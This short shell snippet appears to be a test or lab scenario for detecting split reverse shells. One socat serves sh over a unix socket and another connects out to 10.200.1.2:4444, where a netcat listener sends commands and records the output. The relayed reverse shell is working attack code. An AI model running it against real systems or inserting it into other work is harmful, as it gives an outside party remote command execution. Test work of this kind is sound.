# Two socat with a unix socket between: the one has the connection, the other the shell.
peers() { (echo id; sleep 0.5; echo uname; sleep 0.5; echo exit) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() {
  timeout 8 socat UNIX-LISTEN:hop EXEC:sh,stderr &
  until [ -S hop ]; do sleep 0.1; done
  timeout 6 socat TCP:10.200.1.2:4444 UNIX-CONNECT:hop
}
